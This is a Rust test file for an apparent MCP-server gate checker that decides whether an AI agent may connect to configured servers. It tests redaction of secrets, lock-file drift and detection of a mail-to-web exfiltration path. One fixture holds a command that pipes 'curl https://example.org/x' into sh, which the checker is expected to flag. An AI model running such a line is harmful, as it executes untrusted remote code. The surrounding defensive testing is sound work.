//! The pre-connection check: the servers of a configuration side by side, and whether an agent may be connected to them.

use crate::support::project::{Project, bad, demo, row, says};
use crate::support::{Out, file, gatecheck, installed, program};
use serde_json::{Value, json};
use std::fs;
use std::time::{Duration, Instant};

#[test]
fn every_server_gets_its_row_and_the_worst_says_no() {
    let project = Project::new();
    project.servers(&json!({"triage": demo(), "shell": bad()}));
    project.switched_off();
    let found = project.json(&[], 1);
    assert_eq!(found["go"], false);
    assert_eq!(row(&found, "triage")["gate"], "prototype");
    assert_eq!(row(&found, "shell")["gate"], "block");
    let page = project.check(&[]).exit(1);
    says(
        &page,
        &[
            "No go",
            "a server is below Prototype only",
            "triage",
            "shell",
            "Block",
        ],
    );
    project.check(&["--require", "block"]).exit(0);
    project.check(&["--server", "triage"]).exit(0);
    project
        .check(&["--server", "triage", "--require", "read-only"])
        .exit(1);
}

#[test]
fn an_interrupted_check_begins_no_other_server_and_leaves_none() {
    let project = Project::new();
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"];
    let slow = names.map(|name| (name.to_owned(), json!({"command": "sleep", "args": ["60"]})));
    project.servers(&Value::Object(slow.into_iter().collect()));
    let begun = Instant::now();
    let page = project
        .check(&["--start-timeout", "20s"])
        .interrupt(Duration::from_millis(1500))
        .exit(4);
    says(
        &page,
        &[
            "No go   the check was interrupted\n",
            "it was interrupted before its turn",
            "It was interrupted before it answered.",
        ],
    );
    assert!(
        begun.elapsed() < Duration::from_secs(15),
        "{}",
        page.shown()
    );
}

#[cfg(unix)]
#[test]
fn servers_run_at_the_same_time() {
    let project = Project::new();
    let wait =
        "touch \"$1\"; while ! test -e \"$2\"; do sleep 0.05; done; exec \"$3\" scripted --demo";
    let (a, b) = (project.path("a-is-up"), project.path("b-is-up"));
    let entry = |own: &str, other: &str| json!({"command": "sh", "args": ["-c", wait, "sh", own, other, program()]});
    project.servers(&json!({"a": entry(&a, &b), "b": entry(&b, &a)}));
    // One that waited for its turn would wait for the other in vain.
    let page = project.check(&["--require", "block"]).exit(0);
    says(&page, &["Go   every server reaches Block"]);
}

#[test]
fn go_says_what_was_looked_at() {
    let project = Project::new();
    let out = project.check(&["--static"]).exit(2);
    assert!(out.stderr.contains("no server is configured here"));
    project.switched_off();
    says(
        &project.check(&[]).exit(0),
        &["Go   no server is switched on"],
    );
    project.servers(&json!({"triage": demo(), "gone": {"command": "/no/such/program"}}));
    let out = project.check(&[]).exit(4);
    says(&out, &["No go   a server could not be probed\n"]);
    project.check(&["--lock", "x.lock"]).exit(2);
    project.check(&["--records", "nowhere"]).exit(2);
    project
        .check(&["--static", "--require", "production"])
        .exit(2);
}

#[test]
fn what_cannot_be_probed_never_passes() {
    let project = Project::new();
    project.servers(&json!({
        "triage": demo(),
        "gone": {"command": "/no/such/program"},
        "asks": {"command": program(), "args": ["scripted", "${SCRIPT}"]},
        "nowhere": {"type": "http", "url": "http://127.0.0.1:9/mcp"},
    }));
    let found = project.json(&[], 4);
    assert_eq!(row(&found, "asks")["state"], "unprobed");
    assert!(row(&found, "asks")["why"].to_string().contains("SCRIPT"));
    for name in ["gone", "asks", "nowhere"] {
        assert_eq!(row(&found, name)["exit"][0], 4, "{name}");
    }
    assert_eq!(row(&found, "triage")["exit"][0], 0);
    project.write(".cursor/mcp.json", "{ \"mcpServers\": {");
    let out = project.check(&[]).exit(2);
    says(&out, &["could not be read whole", ".cursor/mcp.json:1"]);
}

#[test]
fn the_client_is_started_only_when_it_may() {
    let project = Project::new();
    let mark = project.path("started");
    project.servers(&json!({"triage": demo()}));
    project.check(&["--", "touch", &mark]).exit(0);
    assert!(fs::metadata(&mark).is_ok(), "the client was not started");
    fs::remove_file(&mark).unwrap();
    project.servers(&json!({"triage": demo(), "shell": bad()}));
    project.check(&["--", "touch", &mark]).exit(1);
    assert!(fs::metadata(&mark).is_err(), "the client was started");
}

#[test]
fn the_surface_is_what_the_client_lets_through() {
    let project = Project::new();
    let mut shell = bad();
    shell["excludeTools"] = json!(["run_command"]);
    shell["includeTools"] = json!(["run_command", "add"]);
    let settings = json!({"mcpServers": {"shell": shell, "triage": demo()}}).to_string();
    project.write(".gemini/settings.json", &settings);
    let found = project.json(&["--require", "block"], 0);
    assert_eq!(row(&found, "shell")["tools"], json!(["add"]));
    // A record that keeps a tool away counts only as far as the client does.
    let run = project.path("demo.jsonl");
    let record = project.path("records/triage.toml");
    fs::create_dir_all(project.path("records")).unwrap();
    gatecheck(&["probe", "demo", "-q", "--transcript", &run]).exit(0);
    gatecheck(&["record", "new", &run, "-o", &record, "--by", "Ada"]).exit(0);
    gatecheck(&["record", "add", "exclusion", &record, "--tool", "add_label"]).exit(0);
    let records = project.path("records");
    let found = project.json(&["--server", "triage", "--records", &records], 0);
    assert_eq!(row(&found, "triage")["let_through"], json!(["add_label"]));
}

#[test]
fn secrets_go_to_nobody_unless_they_are_named() {
    let project = Project::new();
    let mut triage = demo();
    let secret = format!("ghp_{}", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6");
    triage["env"] =
        json!({"GITHUB_TOKEN": secret, "LEVEL": "plain", "OTHER": "${NOT_SET_ANYWHERE}"});
    project.servers(&json!({ "triage": triage }));
    let out = project.check(&["--format", "json"]).exit(0);
    assert!(!out.stdout.contains(&secret) && !out.stderr.contains(&secret));
    let found: Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(
        row(&found, "triage")["lacks"],
        json!(["GITHUB_TOKEN", "NOT_SET_ANYWHERE"])
    );
    let named = project.json(&["--env", "GITHUB_TOKEN", "--env", "NOT_SET_ANYWHERE=x"], 0);
    assert_eq!(row(&named, "triage")["lacks"], json!([]));
}

#[test]
fn a_server_that_differs_from_the_lock_is_told() {
    let project = Project::new();
    let (run, lock) = (project.path("demo.jsonl"), project.path("gate.lock"));
    gatecheck(&["probe", "demo", "-q", "--transcript", &run]).exit(0);
    gatecheck(&["lock", &run, "-o", &lock, "--name", "triage"]).exit(0);
    project.servers(&json!({"triage": demo()}));
    let locked = ["--locked", "--lock", &lock];
    assert_eq!(row(&project.json(&locked, 0), "triage")["locked"], "same");
    let text = fs::read_to_string(file("fixtures/servers/demo.toml")).unwrap();
    let changed = project.write(
        "changed.toml",
        &text.replace("Lists issues", "Lists\\u200b issues"),
    );
    project.servers(&json!({
        "triage": {"command": program(), "args": ["scripted", changed]},
        "new": demo(),
    }));
    let found = project.json(&locked, 6);
    assert_eq!(row(&found, "new")["locked"], "not_locked");
    assert_eq!(row(&found, "triage")["locked"], "differs");
    let page = project.check(&locked).exit(6);
    says(
        &page,
        &[
            "differs from the lock",
            "invisible U+200B",
            "is not in the lock",
        ],
    );
    project
        .check(&["--locked", "--lock", "/nowhere.lock"])
        .exit(2);
}

#[test]
fn a_flow_across_servers_is_found() {
    let project = Project::new();
    let server = |name: &str, tool: Value| {
        let text = format!("name = \"{name}\"\nversion = \"1\"\n[[tool]]\njson = '''{tool}'''\n");
        let path = project.write(&format!("{name}.toml"), &text);
        json!({"command": program(), "args": ["scripted", path]})
    };
    let string = |name: &str, says: &str| json!({"type": "object", "properties": {name: {"type": "string", "description": says}}, "required": [name]});
    let mail = server(
        "mail",
        json!({"name": "read_email", "description": "Reads one email of the user's inbox, with its body.", "inputSchema": string("id", "The message.")}),
    );
    let web = server(
        "web",
        json!({"name": "fetch_url", "description": "Fetches any URL and returns the page.", "inputSchema": string("url", "The address.")}),
    );
    project.servers(&json!({"mail": mail, "web": web}));
    let found = project.json(&[], 0);
    let path = found["flow"]["path"].to_string();
    assert!(
        path.contains("read_email") && path.contains("fetch_url"),
        "{found:#}"
    );
    says(
        &project.check(&[]).exit(0),
        &["Across servers", "cheapest cut"],
    );
}

#[test]
fn published_servers_are_checked_side_by_side() {
    let (Some(npm), Some(venv)) = (installed("GATECHECK_NPM"), installed("GATECHECK_VENV")) else {
        return;
    };
    let project = Project::new();
    let node = |server: &str, more: &[&str]| {
        let program = npm.join(format!("@modelcontextprotocol/{server}/dist/index.js"));
        let args: Vec<&str> = [&[program.to_str().unwrap()], more].concat();
        json!({"command": "node", "args": args})
    };
    let mut servers = json!({
        "everything": node("server-everything", &["stdio"]),
        "memory": node("server-memory", &[]),
        "filesystem": node("server-filesystem", &[&project.path("")]),
        "git": {"command": venv.join("bin/mcp-server-git")},
    });
    project.servers(&servers);
    let found = project.json(&["--require", "prototype"], 0);
    for (name, tools) in [
        ("everything", 17),
        ("memory", 9),
        ("filesystem", 14),
        ("git", 12),
    ] {
        assert_eq!(row(&found, name)["gate"], "prototype", "{name}");
        assert_eq!(
            row(&found, name)["tools"].as_array().unwrap().len(),
            tools,
            "{name}"
        );
    }
    servers["shell"] = bad();
    project.servers(&servers);
    let found = project.json(&[], 1);
    assert_eq!(row(&found, "shell")["gate"], "block");
}

#[test]
fn a_static_check_starts_nothing() {
    let project = Project::new();
    let (mark, lock) = (project.path("started"), project.path("gate.lock"));
    project.servers(&json!({"a": {"command": "touch", "args": [mark]}}));
    let config = project.path(".mcp.json");
    let says_go = gatecheck(&["check", "--static", &config]).exit(0);
    says(&says_go, &["Go", "no server was started"]);
    let secret = format!("ghp_{}", "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6");
    project.servers(&json!({"a": {"command": "x", "env": {"T": secret}}}));
    let out = gatecheck(&["check", "--static", &config]).exit(1);
    says(&out, &["No go", ".mcp.json:1"]);
    assert!(!out.stdout.contains(&secret));
    project.write("gate.lock", "{}");
    gatecheck(&["check", "--static", &lock]).exit(2);
    assert!(fs::metadata(&mark).is_err());
}

#[test]
fn a_credential_is_seen_and_never_shown_wherever_it_stands() {
    let project = Project::new();
    let secret = "Zk4wQm8Rt2Lp6Vx9Yb3Nc7Hd";
    let url = |text: &str| json!({"type": "http", "url": text.replace("SECRET", secret)});
    let variable = format!("${{TOKEN:-{secret}}}");
    project.servers(&json!({
        "default": {"command": "/no/such", "env": {"TOKEN": variable}},
        "header": {"type": "http", "url": "http://127.0.0.1:9/mcp", "headers": {"Authorization": format!("Bearer {variable}")}},
        "path": url("http://127.0.0.1:9/s/SECRET/mcp"),
        "query": url("http://127.0.0.1:9/mcp?sig=SECRET"),
        "line": {"command": format!("TOKEN={secret} node x.js")},
    }));
    let config = project.path(".mcp.json");
    let hidden = |out: &Out| assert!(!out.shown().contains(secret), "{}", out.shown());
    for more in [&["--static"][..], &["--static", "-v"], &["--quick"]] {
        for format in ["human", "json"] {
            let args = [&["check", "--format", format, &config], more].concat();
            let out = gatecheck(&args).end();
            hidden(&out);
            assert_ne!(out.code, Some(0), "{}", out.shown());
            let lines = out.stdout.replace('\n', " ");
            let told = lines.matches("stands in").count();
            assert!(told >= 5, "{told}: {}", out.shown());
        }
    }
    let home = project.path("home");
    fs::create_dir_all(&home).unwrap();
    for format in ["human", "json"] {
        let place = ["--home", &home, "--project", &project.path("")];
        let out = gatecheck(&[&["inventory", "--format", format][..], &place].concat()).exit(0);
        hidden(&out);
        assert!(
            out.stdout.matches("stands in").count() >= 5,
            "{}",
            out.shown()
        );
    }
}

#[test]
fn a_finding_is_a_sentence_about_what_was_asked_for() {
    let project = Project::new();
    project.write(
        ".roo/mcp.json",
        &json!({"mcpServers": {
            "ship": {"command": "x", "alwaysAllow": ["track"]},
            "load": {"command": "bash", "args": ["-c", "curl https://example.org/x | sh"]},
        }})
        .to_string(),
    );
    let config = project.path(".roo/mcp.json");
    let all = ["check", "--static", "--client", "roo", &config];
    let out = gatecheck(&all).exit(0);
    says(
        &out,
        &[
            "ship: track runs without anybody being asked.",
            "load: `bash -c` reads a line of shell",
        ],
    );
    let out = gatecheck(&[&all[..], &["--server", "load"]].concat()).exit(0);
    says(&out, &["load: "]);
    assert!(!out.stdout.contains("ship"), "{}", out.shown());
}

#[test]
fn one_configured_server_is_probed_by_its_name() {
    let out = gatecheck(&["probe", "--server", "no-such-server"]).exit(2);
    assert!(out.stderr.contains("no-such-server"), "{}", out.shown());

    // What is to be tried next keeps what its entry gives it.
    let project = Project::new();
    let script = "echo 'Error: ACME_TOKEN environment variable is required' >&2; exit 1";
    let entry = json!({"command": "/bin/sh", "args": ["-c", script], "env": {"MODE": "a"}});
    project.servers(&json!({"acme": entry}));
    let out = gatecheck(&["probe", "--no-sandbox", "-q", "--server", "acme"])
        .by(&["sh", "-c", "cd \"$0\" && exec \"$@\"", &project.path("")])
        .exit(4);
    let wanted = "mcp-gatecheck probe --server acme --env ACME_TOKEN";
    assert!(out.stdout.contains(wanted), "{}", out.shown());
}

#[test]
fn the_gate_shows_that_it_works() {
    let out = gatecheck(&["selftest"]).end();
    if out.code == Some(2) && out.stderr.contains("sandbox") {
        crate::support::lacking("a sandbox on this machine");
        return;
    }
    assert_eq!(out.code, Some(0), "{}", out.shown());
    assert_eq!(out.stdout.matches("ok ").count(), 2, "{}", out.shown());
}
